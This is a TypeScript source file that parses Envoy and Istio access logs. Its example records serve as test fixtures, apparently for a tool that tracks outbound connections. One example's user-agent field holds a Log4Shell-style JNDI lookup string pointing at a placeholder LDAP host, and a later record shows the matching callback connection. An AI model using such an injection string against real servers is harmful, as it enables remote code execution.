import type { Outgoing } from '../outgoing.ts'
import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import { portOf } from './columns.ts'
import type { LogFormat } from './format.ts'
import { closingQuote, quotedFields, requestOf } from './quoted-fields.ts'

/**
 * The access log of Envoy as it is by default, and as Istio has it, which adds where a request went and came from. The quoted
 * fields: the request, (why it failed,) the client as proxies name it, its agent, an id, the host, and where it was sent.
 */
export const envoy: LogFormat = {
  id: 'envoy',
  summary: 'access logs of Envoy and Istio in their default form, in and out of the mesh',
  definedBy: 'https://www.envoyproxy.io/docs/envoy/latest/configuration/observability/access_log/usage',
  witnesses: ['outbound|', 'PassthroughCluster', 'BlackHoleCluster'],
  examples: {
    reads: [
      {
        record:
          '[2021-12-12T04:25:41.310Z] "POST /api/v1/locations HTTP/2" 204 - 154 0 226 100 "203.0.113.9" "${jndi:ldap://x.example/a}" "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2" "locations" "tcp://10.0.2.1:80"',
        when: '2021-12-12T04:25:41.310Z',
        from: '203.0.113.9',
        request: 'POST /api/v1/locations',
        userAgent: '${jndi:ldap://x.example/a}',
      },
      {
        record:
          '[2021-12-12T04:25:41.310Z] "GET /a HTTP/1.1" 200 - via_upstream - "-" 0 135 4 4 "-" "curl/7.79.1" "84961386" "httpbin:8000" "127.0.0.1:80" inbound|8000|| 127.0.0.6:41854 10.44.1.27:80 10.44.1.23:37652 outbound_.8000_._.httpbin.foo default',
        when: '2021-12-12T04:25:41.310Z',
        from: '10.44.1.23',
        request: 'GET /a',
        userAgent: 'curl/7.79.1',
      },
      {
        record:
          '[2021-12-12T04:25:42.310Z] "- - -" 0 - - - "-" 14 71 5 - "-" "-" "-" "-" "203.0.113.9:1389" PassthroughCluster 10.44.1.27:41854 203.0.113.9:1389 10.44.1.27:37652 - -',
        when: '2021-12-12T04:25:42.310Z',
        from: '10.44.1.27',
        saw: { is: 'connection', to: '203.0.113.9', name: null, port: 1389, by: '10.44.1.27', protocol: null },
      },
    ],
    refuses: ['[2021-12-12T04:25:41.310Z] "GET / HTTP/1.1" 200 -', '[2021-12-12T04:25:41.310Z] hello'],
  },
  read({ text }, { around }) {
    const head = /^\[(\d{4}-\d\d-\d\dT[\d:.]{8,16}Z)\] "/.exec(text)
    if (head === null) return null
    const [whole, time = ''] = head
    const [request = '', ...others] = quotedFields(text, whole.length - 1)
    const isMesh =
      others.length >= 6 && / "[^"]{0,2000}" \d{1,20} \d{1,20} \d{1,20} \S{1,20} "/.test(text.slice(whole.length))
    const [client = '-', userAgent = '-', id = '-', host = '-', upstream = '-'] = isMesh ? others.slice(1) : others
    if (others.length < (isMesh ? 6 : 5)) return null
    const behind = isMesh ? behindQuotes(text, whole.length - 1) : []
    const peer = addressOf(behind[3])
    const saw = isMesh ? sawOf(behind[0] ?? '', upstream, host, peer) : null
    const names = isMesh ? ['why it failed'] : []
    names.push('client', 'user agent', 'id', 'host', 'upstream')
    return {
      when: readTime(time, around),
      from: addressOf(client.split(',')[0]) ?? peer,
      request: request.startsWith('- - ') || request === '- -' ? null : requestOf(request),
      userAgent: userAgent === '-' ? null : userAgent,
      ...(saw === null ? {} : { saw }),
      fields: [
        { name: 'request', value: request },
        ...others.map((value, index) => ({ name: names[index] ?? null, value })),
        { name: 'request id', value: id },
      ],
    }
  },
}

/** What follows the last quoted field, by blanks. */
function behindQuotes(text: string, start: number): readonly string[] {
  let end = start
  for (let at = text.indexOf('"', start); at >= 0; at = text.indexOf('"', end)) end = closingQuote(text, at + 1) + 1
  return text.slice(end).trim().split(' ').slice(0, 8)
}

/** Out of the mesh, or into it from a program in it: the cluster says which. */
function sawOf(cluster: string, upstream: string, host: string, by: string | null): Outgoing | null {
  if (!/^(?:outbound\||PassthroughCluster|BlackHoleCluster)/.test(cluster)) return null
  const to = addressOf(upstream)
  const name = addressOf(host)
  if (to === null && name === null) return null
  return { is: 'connection', to, name, port: portOf(/:(\d{1,5})$/.exec(upstream)?.[1]), by, protocol: null }
}
